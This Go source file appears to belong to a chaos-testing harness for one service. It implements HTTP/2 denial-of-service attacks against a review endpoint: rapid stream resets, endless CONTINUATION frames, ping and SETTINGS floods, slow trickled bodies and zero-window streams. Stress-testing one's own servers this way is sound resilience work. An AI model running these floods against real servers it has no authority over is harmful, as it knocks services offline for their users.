//go:build chaos

package hostile

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// preface begins a client's side of HTTP/2: with a SETTINGS frame without content.
const preface = http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// http2Callers is how many connections an attack by frames has.
const http2Callers = 20

// session is a client's side of HTTP/2, by hand.
type session struct {
	*http2.Framer
	next uint32
	// streams is how many the server lets it have at once.
	streams uint32
	closed  chan error
}

// speak opens a connection with settings of its own and reads what comes on it: what
// is refused there is counted.
func (a *attacker) speak(own ...http2.Setting) (*session, func(), error) {
	conn, done, err := a.dialTLS("h2")
	if err != nil {
		return nil, nil, err
	}
	s := &session{Framer: http2.NewFramer(conn, conn), next: 1, streams: 100, closed: make(chan error, 1)}
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = s.begin(own)
	}
	if err != nil {
		done()
		return nil, nil, err
	}
	go func() { s.closed <- a.listen(s.Framer) }()
	return s, done, nil
}

// begin sends settings, and reads the server's.
func (s *session) begin(own []http2.Setting) error {
	if err := s.WriteSettings(own...); err != nil {
		return err
	}
	frame, err := s.ReadFrame()
	if err != nil {
		return err
	}
	theirs, ok := frame.(*http2.SettingsFrame)
	if !ok {
		return fmt.Errorf("the server begins with %T", frame)
	}
	if n, ok := theirs.Value(http2.SettingMaxConcurrentStreams); ok {
		s.streams = n
	}
	return s.WriteSettingsAck()
}

func (a *attacker) listen(f *http2.Framer) error {
	for {
		frame, err := f.ReadFrame()
		switch frame := frame.(type) {
		case *http2.RSTStreamFrame:
			a.refused.Add(1)
		case *http2.GoAwayFrame:
			return errors.New(frame.ErrCode.String())
		}
		if err != nil && !errors.As(err, new(http2.StreamError)) {
			return err
		}
	}
}

// ask begins a request and returns its stream.
func (s *session) ask(a *attacker, length int, endStream bool) (uint32, error) {
	a.requests.Add(1)
	id := s.next
	s.next += 2
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "x"}, {":path", reviewPath},
		{"content-type", "application/json"}, {"content-length", strconv.Itoa(length)},
	} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}); err != nil {
			return 0, err
		}
	}
	return id, s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: endStream})
}

// slowStreams has as many requests on each connection as it may, and sends a byte
// of each body a second.
func slowStreams(a *attacker) {
	a.callers(200, pause, func() error {
		s, done, err := a.speak()
		if err != nil {
			return err
		}
		defer done()
		var ids []uint32
		for range s.streams {
			id, err := s.ask(a, 1000, false)
			if err != nil {
				return err
			}
			ids = append(ids, id)
		}
		for a.ctx.Err() == nil {
			for _, id := range ids {
				if err := s.WriteData(id, false, []byte(" ")); err != nil {
					return err
				}
			}
			a.sleep(time.Second)
		}
		return nil
	})
}

// fullWindows has the server read the largest frames that it takes, on streams of
// which it reads little.
func fullWindows(a *attacker) {
	a.callers(many, pause, func() error {
		s, done, err := a.speak()
		if err != nil {
			return err
		}
		defer done()
		id, err := s.ask(a, 7<<20, false)
		if err != nil {
			return err
		}
		// As much as fits into the window that each connection has at first.
		for range 3 {
			if err := s.WriteData(id, false, bytes.Repeat([]byte(" "), 16000)); err != nil {
				return err
			}
		}
		// The header of a larger frame, and half of it.
		if err := s.WriteRawFrame(http2.FrameData, 0, id, bytes.Repeat([]byte(" "), 16384)); err != nil {
			return err
		}
		return <-s.closed
	})
}

// unreadAnswers asks on many streams, and gives no room for an answer.
func unreadAnswers(a *attacker) {
	whole := append(bytes.Repeat([]byte(" "), 60000-len(review)), review...)
	a.callers(200, pause, func() error {
		s, done, err := a.speak(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer done()
		for range s.streams {
			id, err := s.ask(a, len(whole), false)
			if err != nil {
				return err
			}
			for rest := whole; len(rest) > 0; {
				n := min(len(rest), 16000)
				if err := s.WriteData(id, n == len(rest), rest[:n]); err != nil {
					return err
				}
				rest = rest[n:]
			}
		}
		return <-s.closed
	})
}

// rapidResets begins requests and takes each back at once.
func rapidResets(a *attacker) {
	a.callers(http2Callers, pause, func() error {
		s, done, err := a.speak()
		if err != nil {
			return err
		}
		defer done()
		for a.ctx.Err() == nil {
			id, err := s.ask(a, 0, true)
			if err == nil {
				err = s.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return err
			}
		}
		return nil
	})
}

// frames sends what write writes, as fast as it can.
func (a *attacker) frames(write func(*session) error) {
	a.callers(http2Callers, pause, func() error {
		s, done, err := a.speak()
		if err != nil {
			return err
		}
		defer done()
		for a.ctx.Err() == nil {
			if err := write(s); err != nil {
				return err
			}
			a.requests.Add(1)
		}
		return nil
	})
}

func pings(a *attacker) {
	a.frames(func(s *session) error { return s.WritePing(false, [8]byte{}) })
}

func settings(a *attacker) {
	a.frames(func(s *session) error {
		return s.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
	})
}

// continuations sends headers that have no end.
func continuations(a *attacker) {
	var block bytes.Buffer
	if err := hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true}); err != nil {
		panic(err) // a buffer takes everything
	}
	fields := bytes.Repeat(block.Bytes(), 16000/block.Len())
	a.frames(func(s *session) error {
		if s.next == 1 {
			s.next += 2
			return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields})
		}
		return s.WriteContinuation(1, false, fields)
	})
}
